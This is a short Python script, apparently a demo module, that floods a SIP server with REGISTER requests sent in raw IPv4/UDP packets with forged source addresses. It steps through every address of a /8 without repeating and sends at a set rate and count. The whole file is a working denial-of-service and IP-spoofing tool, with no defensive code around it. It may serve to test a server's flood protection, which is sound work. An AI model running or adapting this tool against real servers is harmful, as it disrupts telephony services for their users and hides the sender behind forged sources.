"""REGISTERs from forged addresses, as a flood sends them (root).

``python -m demo.spoof NETWORK SERVER RATE COUNT``: COUNT packets, RATE a second, sources in
the /8 of NETWORK in an order that does not repeat.
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from typing import Final

_STEP: Final = 0x9E3779  # odd, so that all 2**24 addresses of a /8 come before one repeats


def register(source: str, number: int) -> bytes:
    """A REGISTER as UDP payload."""
    lines = (
        "REGISTER sip:sip.example.net SIP/2.0",
        f"Via: SIP/2.0/UDP {source}:5060;branch=z9hG4bK{number:08x}",
        f"From: <sip:1001@sip.example.net>;tag={number:08x}",
        "To: <sip:1001@sip.example.net>",
        f"Call-ID: {number:08x}@{source}",
        "CSeq: 1 REGISTER",
        f"Contact: <sip:1001@{source}>",
        "Max-Forwards: 70",
        "Content-Length: 0",
    )
    return "\r\n".join((*lines, "", "")).encode()


def packet(source: bytes, server: bytes, payload: bytes) -> bytes:
    """An IPv4 packet; the kernel fills in its checksum, and UDP's is optional."""
    udp = struct.pack("!HHHH", 5060, 5060, 8 + len(payload), 0)
    header = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0, 0, 64, socket.IPPROTO_UDP, 0, source, server
    )
    return header + udp + payload


def main(network: str, server: str, rate: int, count: int) -> None:
    """Send them all, in groups of a hundredth of a second."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    first, to = socket.inet_aton(network)[:1], socket.inet_aton(server)
    began = time.monotonic()
    for number in range(count):
        source = first + (number * _STEP & 0xFFFFFF).to_bytes(3, "big")
        payload = register(socket.inet_ntoa(source), number)
        sock.sendto(packet(source, to, payload), (server, 0))
        ahead = began + number / rate - time.monotonic()
        if ahead > 0.01:
            time.sleep(ahead)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))
